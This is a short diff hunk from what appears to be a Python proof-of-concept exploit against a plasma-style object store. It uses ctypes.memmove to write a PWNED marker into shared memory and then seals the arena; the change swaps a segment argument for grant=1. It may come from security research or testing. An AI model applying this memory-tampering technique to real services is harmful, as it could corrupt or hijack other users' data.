@@ -318,7 +318,7 @@ def mprotect_writable():
     ctypes.memmove(base + loc.offset, PWNED, len(PWNED))
 def seal_arena():
     obj = p.ArenaObject(id=b"a" * 20, offset=loc.offset, data_size=8, metadata_size=0)
-    reply = request(p.SealArena(seq=3, segment=segment.id, objects=[obj], ack=True))
+    reply = request(p.SealArena(seq=3, grant=1, objects=[obj], ack=True))
     if isinstance(reply, p.Error):
         raise plasma.errors.error_for(reply.code, reply.message)
 
